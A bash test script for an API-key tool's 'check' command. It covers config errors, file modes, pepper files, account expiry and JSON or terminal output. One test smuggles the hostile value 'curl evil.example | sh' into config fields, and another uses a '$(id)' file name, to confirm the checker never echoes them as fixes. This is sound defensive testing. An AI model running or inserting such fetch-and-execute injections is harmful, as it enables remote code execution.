# shellcheck shell=bash disable=SC2154,SC2016
# check.sh - apikeyctl check: configuration, keystore, state, accounts, and
# the form of what it says.
. ./check_lib.sh

t 'check: silent on the recommended set-up, as Fedora has it'
sound fedora
sound_after :
t 'check: a file that Fedora links to is followed inside the tree'
sick 'sed -i 3d etc/authselect/password-auth
    sed -i 3s/-auth/-nothing/ etc/pam.d/sshd' error etc/pam.d/sshd:3 \
    'includes password-nothing, which is not there'

sound debian
t 'check: silent on the recommended set-up, as Debian has it'
sound_after :
# What is nobody's mistake.
sound_after 'rm etc/ssh/sshd_config etc/sudoers etc/pam.d/su'
sound_after 'touch etc/pam.d/sshd.dpkg-old'
sound_after 'rm etc/pam.d/sudo etc/pam.d/sudo-i'
sound_after "sed -i 's/^user.*/user = \"alice\";/; \$adisabled = true;' \
    $KEYS/$KEY.conf"

t 'check: the configuration'
only etc/apikey
conf() { printf 'echo %q >>etc/apikey/apikey.conf' "$1"; }
sick 'rm etc/apikey/apikey.conf' error etc/apikey/apikey.conf \
    'there is no configuration'
mend_is "install -D -m 644 /dev/null $R/etc/apikey/apikey.conf # an empty file will do"
n=$(($(wc -l <../../etc/apikey.conf) + 1))
sick "$(conf 'frobnicate = 1;')" error "etc/apikey/apikey.conf:$n" \
    'unknown setting "frobnicate"'
while IFS='|' read -r text what; do
	sick "$(conf "$text")" error "etc/apikey/apikey.conf:$n" "$what\$"
done <<'EOT'
limits = { key = "300"; };|limits.key: "300" is not a rate such as 30/1m or 30/1m:5
limits = { failures = 10; };|limits.failures must be a text in quotes: a rate such as 30/1m or 30/1m:5
issue = { ttl = 90; };|issue.ttl must be a text in quotes: a duration such as 90d or 12h
issue = { services = []; };|issue.services is an empty list
issue = { tll = 1; };|unknown setting "issue.tll"
argon2id = { memory = "x"; };|argon2id.memory must be a whole number from 1
audit = { format = "xml"; };|audit.format: "xml" is not logfmt or json
issue = { ttl = 90d; };|syntax error: a quote, a bracket or a "=" may be missing, on this line or before it
EOT
# A quote is missing in the line before.
sick "$(conf $'hash = "blake2b;\nstate = "/x";')" error \
    "etc/apikey/apikey.conf:$((n + 1))" '^syntax error: a quote,'
sick "$(conf 'issue = { ttl = "never"; max_ttl = "never"; };')" warning \
    etc/apikey/apikey.conf 'keys never end'
sick "$(conf 'issue = { max_ttl = "never"; };')" warning \
    etc/apikey/apikey.conf 'keys may be made that never end'
sick "$(conf 'limits = { failures = "100/1s"; };')" warning \
    etc/apikey/apikey.conf 'limits.failures is 100/1s'
sound_after "$(conf 'limits = { failures = "1000/1m:9"; key = "9/1s"; };')"
sick "$(conf 'argon2id = { max_memory = 2000000; };')" warning \
    etc/apikey/apikey.conf 'lets one login take 2000000 KiB'
sick "$(conf 'local_services = [ "su", "sshd" ];')" warning \
    etc/apikey/apikey.conf 'sshd is among local_services'

t 'check: all that is missing is told at once, and the mends mend it'
only etc/apikey var/lib/apikey
in_tree 'rm -r etc/apikey var/lib/apikey'
look 8
want 'findings' "$(cut -f 1,3 <<<"$OUT")" \
    "error	there is no configuration: every key is refused
error	there is no keystore: every key is refused
warning	there is no state: uses are not counted, failures not slowed down, keys with max_uses refused"
mends=$(cut -f 4 <<<"$OUT")
(umask 077; bash -ec "$mends") >"$W/out" 2>&1 || problem "$(cat "$W/out")"
look 0
[ -z "$OUT$ERR" ] || problem "after the mends: $OUT$ERR"
only etc/apikey

t 'check: what a file holds is no mend'
evil='q; curl evil.example | sh'
line='mend the line: until then every key is refused (apikey.conf(5))'
sick "$(conf "hash = \"$evil\";")" error "etc/apikey/apikey.conf:$n" \
    'curl evil.example'
mend_is "$line"
sick "$(conf "audit = { format = \"x\\\" ; $evil\"; };")" error \
    "etc/apikey/apikey.conf:$n" 'curl evil.example'
mend_is "$line"
sick "echo 'rate = \"$evil\";' >>$KEYS/$KEY.conf" error \
    "$KEYS/$KEY.conf:$(($(wc -l <"$SOUND/$KEYS/$KEY.conf") + 1))" \
    'curl evil.example'
mend_is 'mend the line, or restore the file: until then the key is refused (apikey.conf(5))'
sick "$(conf 'local_services = [];')" error "etc/apikey/apikey.conf:$n" \
    'is an empty list$'
mend_is 'leave the setting out instead'
only var/lib/apikey
for name in '$(id)' "$KEY.x" .apikey.new; do
	sick "touch '$USAGE/$name'" note "$USAGE/$name" 'is not named by the id'
	mend_is 'move it away'
done
only etc/apikey

t 'check: the pepper'
hex=00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff
pepper="$(conf 'pepper = "/etc/apikey/pepper";'); umask 77;
    echo $hex >etc/apikey/pepper"
sound_after "$pepper"
sick "$pepper; rm etc/apikey/pepper" error etc/apikey/pepper 'is missing'
sick "$pepper; touch etc/apikey/.apikey.new" note etc/apikey/.apikey.new 'a pepper that was'
sick "$pepper; chmod 640 etc/apikey/pepper" error etc/apikey/pepper \
    'can be read by others'
sick "$pepper; echo x >>etc/apikey/pepper" error etc/apikey/pepper \
    'must hold 64 hexadecimal digits'
sick "$(conf 'pepper = "/etc/apikey/keys.d/.pepper";'); umask 77;
    echo $hex >etc/apikey/keys.d/.pepper" warning etc/apikey/apikey.conf \
    "the keystore's own folder"

t 'check: owners and modes of every path'
only
sick 'chmod g+w etc' error etc 'writable by its group'
mend_is "chmod go-w $R/etc"
in_tree "chmod g+w etc $KEYS/$KEY.conf; chmod o+w $KEYS"
look 8
want_finding error etc 'its group'
want_finding error "$KEYS" 'everybody'
want_finding error "$KEYS/$KEY.conf" 'its group'
want 'findings' "$(wc -l <"$W/out")" 3
only etc/apikey var/lib/apikey
sick 'chmod o+w etc/apikey/apikey.conf' error etc/apikey/apikey.conf \
    'writable by everybody'
sick 'chmod g+w etc/apikey/keys.d' error etc/apikey/keys.d \
    'writable by its group'
sick 'chmod 750 etc/apikey/keys.d' warning etc/apikey/keys.d \
    'can be read by others'
mend_is "chmod 700 $R/etc/apikey/keys.d"
sick 'chmod 711 var/lib/apikey' warning var/lib/apikey \
    'can be read by others'
sick 'chmod g+w var/lib/apikey' error var/lib/apikey 'writable'
sick "chmod g+w $USAGE" error "$USAGE" 'writable'
sick "chmod g+w $USAGE/$KEY" error "$USAGE/$KEY" 'writable'
sick "chmod g+w $KEYS/$KEY.conf" error "$KEYS/$KEY.conf" 'writable'
sick "mv $KEYS/$KEY.conf etc/apikey/x; ln -s ../x $KEYS/$KEY.conf" error \
    "$KEYS/$KEY.conf" 'is a symbolic link'
sick "mkdir $KEYS/0000000000.conf" error "$KEYS/0000000000.conf" \
    'is not a regular file'
sick "mkfifo $KEYS/0000000000.conf" error "$KEYS/0000000000.conf" \
    'is not a regular file'
sick 'touch var/lib/apikey/counters; chmod o+w var/lib/apikey/counters' \
    error var/lib/apikey/counters 'writable'
sick 'head -c 1040 /dev/zero | tr "\0" x >var/lib/apikey/counters' warning \
    var/lib/apikey/counters 'is no file that counts decisions'
sick 'echo x >var/lib/apikey/throttle' warning \
    var/lib/apikey/throttle 'is no file that counts failures'
sound_after ': >var/lib/apikey/throttle; : >var/lib/apikey/counters
    truncate -s 524800 var/lib/apikey/throttle'
# What logins make is good.
printf 'ak_%s_x' "$KEY" | "$CTL" --config "$CONF" verify --consume --user x \
    >"$W/out" 2>&1
[ -s "$SOUND/var/lib/apikey/counters" ] || problem 'no counters were made'
[ -s "$SOUND/var/lib/apikey/throttle" ] || problem 'no throttle was made'
sound_after :
if [ "$(id -u)" -eq 0 ]; then
	sick 'chown 12345 etc/apikey' error etc/apikey 'belongs to uid 12345'
fi
# Opening a device can make it act: it is not opened.  Nothing drives this.
if mknod "$W/device" c 60 0 2>/dev/null; then
	sick "mknod $KEYS/0000000000.conf c 60 0" error \
	    "$KEYS/0000000000.conf" 'is a device'
	only etc
	in_tree 'rm etc/sudoers; mknod etc/sudoers c 60 0'
	look 1
	want_err 'etc/sudoers: is no regular file$'
	"$CTL" check "$W/device" 2>"$W/err"
	ERR=$(<"$W/err")
	want_err 'device: Invalid argument$'
	only etc/apikey var/lib/apikey
fi
sick 'rm -r etc/apikey/keys.d' error etc/apikey/keys.d \
    'there is no keystore'
# Its one key has its count there.
sick "rm -r var/lib/apikey; sed -i /max_uses/d $KEYS/$KEY.conf" warning \
    var/lib/apikey 'there is no state'
# The path above the tree is not judged.
sound_after :
chmod 777 "$W"
look 0
chmod 700 "$W"

t 'check: records'
sick "echo 'color = 1;' >>$KEYS/$KEY.conf" error \
    "$KEYS/$KEY.conf:$(($(wc -l <"$SOUND/$KEYS/$KEY.conf") + 1))" \
    'unknown setting "color"'
sick "cp $KEYS/$KEY.conf $KEYS/0000000000.conf" error \
    "$KEYS/0000000000.conf" "holds the id $KEY"
sick "touch $KEYS/README" error "$KEYS/README" 'is not named by the id'
sick "touch $KEYS/.apikey.new" note "$KEYS/.apikey.new" 'a change that was not finished'
sick "rm $USAGE/$KEY" error "key $KEY" 'the count of its uses is missing'
sick "sed -i /max_uses/d $KEYS/$KEY.conf; echo >$USAGE/$KEY" warning \
    "$USAGE/$KEY" "is no record of a key's usage"
sick "sed -i 's/blake2b.v=1/&,p=cb2f5160/' $KEYS/$KEY.conf" error \
    "$KEYS/$KEY.conf" 'the pepper cb2f5160, but the configuration names none'
sick "$pepper; sed -i 's/blake2b.v=1/&,p=cb2f5160/' $KEYS/$KEY.conf" error \
    "$KEYS/$KEY.conf" 'the pepper cb2f5160, but the configured one'
in_tree "$pepper; sed -i 's/blake2b.v=1/&,p=cb2f5160/' $KEYS/$KEY.conf
    rm etc/apikey/pepper"
look 8
want_finding error etc/apikey/pepper 'is missing'
want_finding error "$KEYS/$KEY.conf" 'needs the pepper, which is missing'
# One that was renamed is not to be lost.
sick "mv $KEYS/$KEY.conf $KEYS/foo.conf" error "$KEYS/foo.conf" \
    'is not named by the id'
mend_is "mv -n $R/$KEYS/foo.conf $R/$KEYS/$KEY.conf"
sick "mv $KEYS/$KEY.conf '$KEYS/a b'" error "$KEYS/a b" 'is not named by'
mend_is "rename it to $KEY.conf, the id that it holds"
sick "cp $KEYS/$KEY.conf $KEYS/foo.conf" error "$KEYS/foo.conf" 'is not named'
mend_is "move it away: the key $KEY has a file"
revoked='revoked = { at = "2020-01-01T00:00:00Z"; };'
sick "echo '$revoked' >>$KEYS/$KEY.conf" note "$KEYS" \
    "1 keys ended more than a year ago, one of them $KEY"
sound_after "echo '${revoked/2020-01-01/$(date +%F)}' >>$KEYS/$KEY.conf"

t 'check: a hash that costs more than the ceiling'
printf 'hash = "argon2id";\nargon2id = { memory = 20000; };\n' >>"$CONF"
new --user deploy --service sshd
costly=$ID
sound_after :
sick "$(conf 'argon2id = { max_memory = 19999; };')" error \
    "$KEYS/$costly.conf" 'takes 20000 KiB and 2 passes'
rm "$SOUND/$KEYS/$costly.conf"
sed -i '/argon2id/d' "$CONF"

t 'check: accounts'
only etc/apikey etc/passwd etc/group etc/shadow
sick 'sed -i s/deploy/stranger/ etc/apikey/keys.d/*.conf' note \
    'user stranger' 'unknown here'
sick 'sed -i s/deploy/alice/ etc/apikey/keys.d/*.conf' warning 'user alice' \
    'not in a group that is asked for them \(apikey\)'
mend_is "usermod -R $R -aG apikey alice"
sick 'sed -i s/apikey:x:997:/\&root,/ etc/group' error 'user root' \
    'root is asked for a key'
mend_is "gpasswd -Q $R -d root apikey # and give keys to accounts of their own"
sick 'sed -i s/apikey:x:997:/\&ghost,/ etc/group' note 'user ghost' \
    'unknown here'
sick 'sed -i /deploy/s/bash/nologin/ etc/passwd' note 'user deploy' \
    'its shell is /bin/nologin'
sound_after 'sed -i s/apikey:x:997:deploy/apikey:x:997:/ etc/group
    sed -i s/deploy:x:998:998/deploy:x:998:997/ etc/passwd'
today=$(($(date +%s) / 86400))
shadow() { echo "sed -i 's/^deploy:.*/deploy:!:$1/' etc/shadow"; }
sick "$(shadow "19000:::::$today:")" error 'user deploy' \
    'the account has expired'
mend_is "chage -R $R -E -1 deploy"
sound_after "$(shadow "19000:::::$((today + 1)):")"
sick "$(shadow '0:0:99999:7:::')" error 'user deploy' \
    'must be changed at once'
sick "$(shadow "$((today - 31)):0:30:7:::")" error 'user deploy' \
    'the password has expired'
sick "$(shadow "$((today - 30)):0:33:7:::")" warning 'user deploy' \
    'the password expires in 3 days'
sound_after "$(shadow "$((today - 30)):0:60:7:::")"
sound_after "$(shadow '9223372036854775807:0:9223372036854775807:7:::')"

t 'check: long lists of users, and some that are too long'
others='seq 50000 | sed "s/.*/u&:x:&:1::\\/home\\/u&:\\/bin\\/sh/"'
sound_after "$others | cat - etc/passwd >etc/x; mv etc/x etc/passwd"
sound_after "$others | cat - etc/shadow >etc/x; mv etc/x etc/shadow"
for name in passwd group; do
	in_tree "truncate -s 17M etc/$name"
	look 1
	[[ $OUT != *'user '* ]] || problem "user by user, without etc/$name"
	want_err "etc/$name: File too large$"
done

only
t 'check: JSON, a pipe, a terminal'
in_tree 'touch etc/apikey/keys.d/"a	b"; chmod g+w etc
    sed -i s/apikey:x:997:/\&ghost,/ etc/group'
look 8 --json
want_form findings
want_json findings.0.severity error
want_json findings.2.where 'user ghost'
look 8
want 'lines' "$(wc -l <"$W/out")" 3
want_out $'^error\t[^\t]*/keys.d/a\\\\tb\tis not named[^\t]*\tmove it away$'
want 'severities' "$(cut -f 1 "$W/out" | tr '\n' ' ')" 'error error note '
script -qec "$CTL check --root $R" /dev/null </dev/null >"$W/out"
want 'the exit status on a terminal' $? 8
OUT=$(tr -d '\r' <"$W/out")
want_out $'^\033\\[31merror   \033\\[0m .*/keys.d/a\\\\x09b$'
want_out '^         is not named by the id of a key and .conf$'
want_out '^         mend: move it away$'
in_tree :
look 0 --json
want 'no findings' "$OUT" '{"version":1,"findings":[]}'
want_form findings

t 'check: what an ordinary user cannot read is told once, with what to do'
in_tree 'echo "pepper = \"/etc/apikey/pepper\";" >>etc/apikey/apikey.conf
    echo >etc/apikey/pepper
    chmod 0 etc/apikey/[kp]* var/lib/apikey etc/shadow'
run=("$CTL")
if [ "$(id -u)" -eq 0 ]; then
	chmod 711 "$W"
	cp "$CTL" "$B"/libapikey.so* "$W"
	run=(setpriv --reuid=65534 --clear-groups "$W/apikeyctl")
fi
LD_LIBRARY_PATH=$W:$B "${run[@]}" check --root "$R" >"$W/out" 2>"$W/err"
want 'lines that come twice' "$(sort "$W/err" | uniq -d)" ''
want 'the last line' "$(tail -n 1 "$W/err")" \
    'apikeyctl: not all could be looked at: run it as root'
chmod 700 "$W"
chmod -R u+rwX "$R"

t 'check: exit statuses and arguments'
look 2 --frobnicate
"$CTL" check --root "$W/nowhere" 2>"$W/err"
want 'a tree that is not there' $? 1
in_tree 'head -c 1100000 /dev/zero >etc/pam.d/huge; truncate -s 2M etc/sudoers'
look 1
want_err 'etc/sudoers: File too large'
in_tree 'mkdir etc/other; mv etc/apikey/apikey.conf etc/other/'
look 0 --config /etc/other/apikey.conf
